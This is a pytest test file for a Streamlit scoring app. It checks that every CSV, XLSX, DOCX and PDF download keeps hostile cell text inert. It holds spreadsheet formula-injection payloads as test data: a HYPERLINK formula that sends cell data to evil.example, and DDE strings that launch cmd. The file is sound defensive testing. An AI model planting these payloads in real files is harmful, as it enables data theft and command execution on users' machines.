"""Every download the product offers, made from a hostile database, holds text as text: no live formula, no link.

The database carries what an attacker can put in a ledger or a roster: a unit named `=HYPERLINK(…)`, a service
whose title is the DDE payload `=cmd|' /C calc'!A0`, a location starting with `@`, a file named like a
formula, and a rejected row whose raw cells are formulas. Each page runs in AppTest with its download buttons
recorded (kaohe.ui.download_button is swapped for a recorder), so the bytes checked are exactly the bytes the
page would hand out when clicked; the command line's files are checked the same way. A scan of pages/ makes
sure no download button escapes this list.
"""

from __future__ import annotations

import ast
import csv
import io
import re
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from conftest import csv_bytes
from streamlit.testing.v1 import AppTest

from kaohe import PROJECT_ROOT
from kaohe.cli import EXIT_OK, main
from kaohe.ingest import import_file
from kaohe.spreadsheet import is_formula_like
from kaohe.store import Store

pytest_plugins = ["fixtures_app"]

APP = str(PROJECT_ROOT / "app.py")
EVIL_NAME = '=HYPERLINK("http://evil.example/?"&A1,"点我")'
DDE = "=cmd|' /C calc'!A0"
AT_LOCATION = "@SUM(1+1)*cmd|' /C calc'!A0"
EVIL_FILE = "+1+1便民服务补报.csv"
HOSTILE = (EVIL_NAME, DDE, AT_LOCATION, EVIL_FILE)


@pytest.fixture(scope="module")
def hostile_db(demo_db_template: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "kaohe.duckdb"
    shutil.copyfile(demo_db_template, path)
    with Store(path) as store:
        kind, community, members = (
            store.cursor().execute("select kind, community, members from units where unit_id = 'SQ01'").fetchone()
        )  # type: ignore[misc]
        roster = [
            ["编号", "党组织名称", "类型", "所属社区", "党员数"],
            ["SQ01", EVIL_NAME, kind, community, str(members)],
        ]
        assert import_file(store, csv_bytes(roster), "名册更新.csv").loaded == 1
        services = [
            ["开展时间", "党组织名称", "活动类型", "活动内容", "受益群众（人次）", "参与党员数", "时长", "活动地点"],
            ["2025-05-05", "新郑路社区", "医疗义诊", DDE, "12", "2", "1.5", AT_LOCATION],
            ["2025-05-06", "新郑路社区", "医疗义诊", "义诊", "12", "2", "1.5", AT_LOCATION],
            ["不是日期", "新郑路社区", "医疗义诊", EVIL_NAME, "=1+2", "2", "1.5", DDE],
        ]
        result = import_file(store, csv_bytes(services), EVIL_FILE)
        assert (result.loaded, result.rejected) == (2, 1)
    return path


@pytest.fixture
def app(app_db: Any, hostile_db: Path) -> Path:
    return app_db(hostile_db)


def open_page(page: str, **params: str) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=90)
    at.query_params["period"] = "2025"
    for name, value in params.items():
        at.query_params[name] = value
    at.run()
    at.switch_page(page).run()
    assert not at.exception, at.exception
    return at


def csv_cells(data: bytes) -> list[str]:
    assert data.startswith(b"\xef\xbb\xbf"), "CSV for Excel carries a byte-order mark"
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for cell in row]


def assert_csv_safe(data: bytes) -> None:
    cells = csv_cells(data)
    assert [c for c in cells if is_formula_like(c)] == []
    assert any(c.lstrip("'") in HOSTILE for c in cells), "the hostile text should be in the file, escaped"


def assert_xlsx_safe(data: bytes) -> None:
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
    assert [c.coordinate for c in cells if c.data_type == "f"] == [], "no cell may be a formula"
    assert [s.title for s in book.worksheets if s._hyperlinks] == [], "no cell may be a link"
    assert any(c.value in HOSTILE for c in cells), "the hostile text should be in the workbook, as text"


def assert_docx_safe(data: bytes) -> None:
    import zipfile

    import docx

    with zipfile.ZipFile(io.BytesIO(data)) as package:
        parts = [n for n in package.namelist() if n.startswith("word/") and n.split("/")[-1].startswith(("document",
                 "header", "footer"))]  # fmt: skip
        xml = "".join(package.read(name).decode("utf-8") for name in parts)
    # Text never becomes a field (only the footer's page number is one) nor a link.
    assert re.findall(r"<w:instrText[^>]*>([^<]*)</w:instrText>", xml) == [" PAGE "]
    assert "<w:fldSimple" not in xml and "<w:hyperlink" not in xml
    document = docx.Document(io.BytesIO(data))
    cells = {cell.text for table in document.tables for row in table.rows for cell in row.cells}
    assert cells & set(HOSTILE), "the hostile text should be in the document, as text"


def assert_safe(key: str, data: bytes) -> None:
    if data.startswith(b"PK") and b"word/document.xml" in data:
        assert_docx_safe(data)
    elif data.startswith(b"PK"):
        assert_xlsx_safe(data)
    elif data.startswith(b"%PDF"):
        assert len(data) > 1000  # a PDF has no cells to run; it is made, that is all
    else:
        assert_csv_safe(data)


# The downloads each page offers on the hostile database, and how to reach them.
COVERED = {
    "explore_download_csv",
    "explore_download_xlsx",
    "explore_sql_download",
    "scorecard_lineage_csv",
    "scorecard_lineage_xlsx",
    "exports_download_{fmt}",
    "audit_download",
    "import_rejects_download_{index}",
    "import_stored_rejects_download",
    "import_template_download",
    "awards_download",
    "publish_report_{fmt}",
}


def test_explorer_pivot_and_console_downloads(app: Path, downloads: dict[str, Callable[[], bytes]]) -> None:
    at = open_page("pages/explorer.py", ledger="services", rows="location")
    at.text_area(key="explore_sql").input(
        f"select title, location from services where title = '{DDE.replace(chr(39), chr(39) * 2)}'"
    )
    at.button(key="explore_run").click().run()
    assert not at.exception, at.exception
    assert set(downloads) == {"explore_download_csv", "explore_download_xlsx", "explore_sql_download"}
    for key, make in downloads.items():
        assert_safe(key, make())


def test_scorecard_lineage_downloads(app: Path, downloads: dict[str, Callable[[], bytes]]) -> None:
    at = open_page("pages/scorecard.py", unit="SQ02")
    at.selectbox(key="scorecard_lineage_indicator").select("svc_count").run()
    assert not at.exception, at.exception
    assert set(downloads) == {"scorecard_lineage_csv", "scorecard_lineage_xlsx"}
    for key, make in downloads.items():
        assert_safe(key, make())


def test_result_exports(app: Path, downloads: dict[str, Callable[[], bytes]]) -> None:
    open_page("pages/exports.py")
    assert set(downloads) == {"exports_download_xlsx", "exports_download_csv", "exports_download_pdf"}
    for key, make in downloads.items():
        assert_safe(key, make())


def test_the_honours_list_and_the_announcement(
    app_db: Any, hostile_db: Path, tmp_path: Path, downloads: dict[str, Callable[[], bytes]]
) -> None:
    from kaohe.access import Role, Viewer
    from kaohe.periods import parse_period
    from kaohe.publish import publish

    path = tmp_path / "kaohe.duckdb"
    shutil.copyfile(hostile_db, path)
    with Store(path) as store:
        publish(store, Viewer("shuji", Role.SECRETARY), parse_period("2025"))
    app_db(path)
    open_page("pages/awards.py")
    assert set(downloads) == {"awards_download"}
    open_page("pages/publish.py")
    assert set(downloads) == {"awards_download", "publish_report_docx", "publish_report_pdf"}
    for key, make in downloads.items():
        assert_safe(key, make())


def test_audit_log_download(app: Path, downloads: dict[str, Callable[[], bytes]]) -> None:
    open_page("pages/audit_log.py")
    assert set(downloads) == {"audit_download"}
    assert_safe("audit_download", downloads["audit_download"]())


def test_stored_rejects_and_template_downloads(app: Path, downloads: dict[str, Callable[[], bytes]]) -> None:
    open_page("pages/import_ledgers.py")
    assert set(downloads) == {"import_stored_rejects_download", "import_template_download"}
    data = downloads["import_stored_rejects_download"]()
    assert_xlsx_safe(data)
    values = {c.value for s in openpyxl.load_workbook(io.BytesIO(data)).worksheets for r in s.iter_rows() for c in r}
    assert {EVIL_NAME, DDE, "=1+2"} <= values
    # The template's drop-down lists hold the roster's unit names: a hostile name stays text there too.
    assert_xlsx_safe(downloads["import_template_download"]())


def test_the_rejects_of_a_fresh_import_download_safely(hostile_db: Path, tmp_path: Path) -> None:
    # The import page offers ingest.rejects_workbook(result.rejects) for each file just imported.
    from kaohe.ingest import rejects_workbook

    path = tmp_path / "kaohe.duckdb"
    shutil.copyfile(hostile_db, path)
    bad = [
        ["开展时间", "党组织名称", "活动类型", "活动内容", "受益群众（人次）"],
        ["2025-13-40", "新郑路社区", DDE, EVIL_NAME, "1"],
    ]
    with Store(path) as store:
        result = import_file(store, csv_bytes(bad), "补报2.csv")
    assert result.rejected == 1
    assert_xlsx_safe(rejects_workbook(result.rejects))


def test_the_command_lines_files(hostile_db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    db = tmp_path / "kaohe.duckdb"
    shutil.copyfile(hostile_db, db)
    assert main(["sql", "select title, location from services where location like '@%'", "--db", str(db)]) == EXIT_OK
    assert_csv_safe(b"\xef\xbb\xbf" + capsys.readouterr().out.encode("utf-8"))
    for suffix in ("csv", "xlsx"):
        out = tmp_path / f"结果.{suffix}"
        assert main(["score", "--period", "2025", "--db", str(db), "--out", str(out)]) == EXIT_OK
        assert_safe(suffix, out.read_bytes())


def download_keys_in_pages() -> set[str]:
    """The key of every download button in pages/, f-string keys with their placeholders as written."""
    keys = set()
    for path in sorted((PROJECT_ROOT / "pages").glob("*.py")):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "download_button":
                key = next(k.value for k in node.keywords if k.arg == "key")
                keys.add(re.sub(r"^f?['\"]|['\"]$", "", ast.unparse(key)))
    return keys


def test_every_download_in_the_pages_is_covered_above() -> None:
    assert download_keys_in_pages() == COVERED
